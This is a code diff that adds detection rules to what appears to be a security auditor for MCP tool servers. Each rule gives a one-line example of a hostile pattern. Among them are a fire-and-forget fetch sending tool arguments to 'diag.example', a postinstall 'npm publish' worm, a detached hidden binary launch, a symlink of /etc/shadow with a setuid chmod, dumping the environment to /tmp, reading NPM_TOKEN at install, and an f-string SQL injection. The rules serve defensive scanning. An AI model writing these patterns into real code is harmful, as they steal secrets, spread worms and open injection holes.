@@ -180,6 +180,70 @@ mcp_audit_core::declare_rules! {
         "A tool handler passes an argument to `eval`, `exec`, `new Function`, `vm` or a template engine.",
         "`eval(args.expression)` in a calculator tool",
     );
+    /// Tool arguments or file contents sent to a fixed host, fire and forget.
+    COVERT_EXFILTRATION = (
+        "covert-exfiltration",
+        Exfiltration,
+        Critical,
+        "Tool arguments (or the contents of files the server read) are sent to a host fixed in the code and the answer is ignored: a side channel the tool's user never sees, often through a 'telemetry' or 'breadcrumb' helper in another file. A host the package reads answers from elsewhere is its own API, not a side channel.",
+        "`breadcrumb(\"query\", args)` → `fetch(\"https://diag.example/v1\", {body: JSON.stringify(batch)}).catch(() => {})`",
+    );
+    /// Packages published from the user's machine.
+    PACKAGE_PUBLISH = (
+        "package-publish",
+        InstallScript,
+        Critical,
+        "Code runs `npm publish`, `twine upload`, `cargo publish` or the like at install time or when the server starts: a worm republishing the victim's packages (medium from a tool handler).",
+        "postinstall: `execSync(\"npm publish --access public\", {cwd: patched})`",
+    );
+    /// Shipped executables started in the background.
+    NATIVE_BINARY_LAUNCH = (
+        "native-binary-launch",
+        BinaryPayload,
+        Critical,
+        "A native executable shipped in the package is started detached or in its own session, at install time, from a `.pth` line, or after being copied or written out of the package: a payload that outlives the server and cannot be reviewed.",
+        "`spawn(path.join(__dirname, \"bin/.cache/nodeupd\"), {detached: true}).unref()`",
+    );
+    /// A tool description that is not in the package.
+    REMOTE_TOOL_DESCRIPTION = (
+        "remote-tool-description",
+        RugPull,
+        Critical,
+        "A tool's description or title is fetched from the network (or decoded at run time, high) and registered or updated with it: the text the model obeys is not the text that was audited, and can change at any time.",
+        "`registerTool(\"search\", {description: await (await fetch(url)).text()}, …)`",
+    );
+    /// System files written, deleted, linked or made setuid.
+    SYSTEM_FILE_TAMPER = (
+        "system-file-tamper",
+        CodeExecution,
+        Critical,
+        "Code writes, deletes, links or changes the permissions of a system file fixed in the code (`/etc/passwd`, `/etc/sudoers`, `authorized_keys`, `/etc/ld.so.preload`, binaries), or sets the setuid bit.",
+        "`os.symlink(\"/etc/shadow\", \"/var/www/html/s.txt\")`, `os.chmod(p, 0o4755)`",
+    );
+    /// Collected secrets written to disk.
+    SECRET_STAGING = (
+        "secret-staging",
+        SensitiveAccess,
+        High,
+        "The environment or the contents of credential files are written to a file outside the package (staged for later pick-up).",
+        "`open(\"/tmp/.cache_keys\", \"w\").write(json.dumps(dict(os.environ)))`",
+    );
+    /// Credentials read by install-time code.
+    INSTALL_CREDENTIAL_ACCESS = (
+        "install-credential-access",
+        InstallScript,
+        Critical,
+        "Code that runs at install time (npm lifecycle scripts, setup.py, a build backend, build.rs) reads credential files, or reads registry or cloud tokens and then publishes packages or sends data.",
+        "postinstall reading `~/.npmrc` and `NPM_TOKEN`",
+    );
+    /// Tool arguments written into query text.
+    TOOL_INPUT_TO_QUERY = (
+        "tool-input-to-query",
+        CodeExecution,
+        High,
+        "A tool handler writes an argument into the text of a database, directory or document query (SQL, LDAP filter, XPath, MongoDB `$where`) instead of passing it as a parameter: a query injection.",
+        "`cursor.execute(f\"SELECT * FROM users WHERE name = '{name}'\")` in an `@mcp.tool()` function",
+    );
     /// Shipped native executables.
     SHIPPED_EXECUTABLE = (
         "shipped-executable",
